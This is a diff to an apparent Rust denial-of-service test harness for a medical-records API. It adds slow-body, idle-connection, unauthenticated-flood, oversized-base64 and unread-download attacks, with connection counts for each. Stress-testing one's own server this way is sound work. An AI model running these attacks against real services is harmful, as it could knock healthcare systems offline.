@@ -3,9 +3,13 @@
 use std::sync::Arc;
 use std::time::Duration;
 
+use base64::Engine;
+use client::{Gateway, Settings, Upload, UploadFile};
+use proto_json::{FileKind, Mrn};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
 use tokio::net::TcpStream;
 use tokio::net::tcp::OwnedReadHalf;
+use tokio::sync::OnceCell;
 
 use super::NO_ATTACK;
 use crate::material;
@@ -16,6 +20,8 @@ const BOUNDARY: &str = "XyZ";
 struct Target {
     address: String,
     token: String,
+    /// Id of an image of 20 MB, once it is uploaded.
+    large_image: OnceCell<String>,
 }
 
 impl Target {
@@ -27,6 +33,24 @@ impl Target {
     fn form_head(&self) -> String {
         let head = self.head("POST /api/v1/patients/66/uploads");
         format!("{head}Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n")
+    }
+
+    /// Uploads the large image until it is stored.
+    async fn upload_large_image(&self) -> String {
+        let image = [one_pixel(), vec![0; 20_000_000]].concat();
+        let settings =
+            Settings { token: self.token.parse().ok(), ..Settings::new(format!("http://{}", self.address)) };
+        let gateway = Gateway::new(&settings).expect("the gateway's address is one");
+        let mrn = Mrn::new(66).expect("a number");
+        loop {
+            let file = UploadFile::from_bytes(FileKind::MedicalImage, "a.png", image.clone());
+            let _ = gateway.upload(mrn, &Upload::of(vec![file]), |_| {}).await;
+            if let Ok(page) = gateway.images(mrn, None, Some(1)).await
+                && let Some(image) = page.items.first()
+            {
+                return image.id.to_string();
+            }
+        }
     }
 
     /// Sends a request of known length and waits for the beginning of the answer.
@@ -59,9 +83,16 @@ pub async fn attack(name: &str, address: &str, token: &str) {
         (1..processors).for_each(|_| drop(std::thread::spawn(busy)));
         busy();
     }
-    let target = Arc::new(Target { address: address.to_owned(), token: token.to_owned() });
+    let target = Arc::new(Target {
+        address: address.to_owned(),
+        token: token.to_owned(),
+        large_image: OnceCell::new(),
+    });
     let many = match name {
-        "slow-heads" | "unread-streams" => 2_000,
+        "slow-heads" | "unread-streams" | "idle-connections" => 2_000,
+        "unread-downloads" => 520,
+        "flood-without-token" | "slow-legacy-bodies" => 64,
+        "large-legacy-bodies" => 16,
         "slow-bodies" => 1_000,
         "flood-of-uploads" | "flood-of-reads" => 64,
         "endless-bodies" | "bombs" | "deep-json" | "many-parts" | "long-csv" => 8,
@@ -95,6 +126,41 @@ async fn once(target: &Target, name: &str, number: u64, round: u64) -> std::io::
                 connection.write_all(b"G").await?;
                 tokio::time::sleep(Duration::from_secs(1)).await;
             }
+        }
+        "idle-connections" => loop {
+            let mut connection = TcpStream::connect(&target.address).await?;
+            while ask_for_root(&mut connection).await? {
+                tokio::time::sleep(Duration::from_secs(1)).await;
+            }
+        },
+        "flood-without-token" => {
+            let mut connection = TcpStream::connect(&target.address).await?;
+            while ask_for_root(&mut connection).await? {}
+            Ok(())
+        }
+        "slow-legacy-bodies" => {
+            let mut connection = TcpStream::connect(&target.address).await?;
+            let head = target.head("POST /api/new_patient");
+            connection.write_all(format!("{head}Content-Length: 58000000\r\n\r\n").as_bytes()).await?;
+            connection.write_all(b"{\"medical_image\": \"").await?;
+            connection.write_all(&vec![b'A'; 50_000_000]).await?;
+            loop {
+                tokio::time::sleep(Duration::from_secs(1)).await;
+                connection.write_all(&[b'A'; 5_000]).await?;
+            }
+        }
+        "large-legacy-bodies" => {
+            let image = [one_pixel(), vec![0; 43_000_000]].concat();
+            let image = base64::engine::general_purpose::STANDARD.encode(image);
+            let body = format!("{{\"medical_record_number\": 66, \"medical_image\": \"{image}\"}}");
+            target.send(&target.head("POST /api/new_patient"), body.as_bytes()).await
+        }
+        "unread-downloads" => {
+            let id = target.large_image.get_or_init(|| target.upload_large_image()).await;
+            let mut connection = TcpStream::connect(&target.address).await?;
+            let head = target.head(&format!("GET /api/v1/images/{id}"));
+            connection.write_all(format!("{head}\r\n").as_bytes()).await?;
+            std::future::pending().await
         }
         "slow-bodies" => {
             let mut connection = TcpStream::connect(&target.address).await?;
@@ -161,7 +227,13 @@ async fn once(target: &Target, name: &str, number: u64, round: u64) -> std::io::
     }
 }
 
-/// Chunks without an end, through one door or the other.
+/// Asks for what needs no token; `false` when the connection was closed.
+async fn ask_for_root(connection: &mut TcpStream) -> std::io::Result<bool> {
+    connection.write_all(b"GET / HTTP/1.1\r\nHost: localhost\r\n\r\n").await?;
+    Ok(connection.read(&mut [0; 4096]).await? > 0)
+}
+
+/// Chunks without an end, through one route or the other.
 async fn endless(target: &Target, number: u64) -> std::io::Result<()> {
     let connection = TcpStream::connect(&target.address).await?;
     let (mut read, mut write) = connection.into_split();
@@ -189,6 +261,17 @@ async fn endless(target: &Target, number: u64) -> std::io::Result<()> {
 async fn answered(read: &mut OwnedReadHalf) {
     let mut answer = [0; 1024];
     let _ = read.read(&mut answer).await;
+}
+
+/// A whole picture, as small as it can be.
+fn one_pixel() -> Vec<u8> {
+    let mut bytes = Vec::new();
+    let mut encoder = png::Encoder::new(&mut bytes, 1, 1);
+    encoder.set_color(png::ColorType::Grayscale);
+    if let Ok(mut writer) = encoder.write_header() {
+        let _ = writer.write_image_data(&[0]);
+    }
+    bytes
 }
 
 /// A picture whose head claims 40,000 x 40,000 pixels.
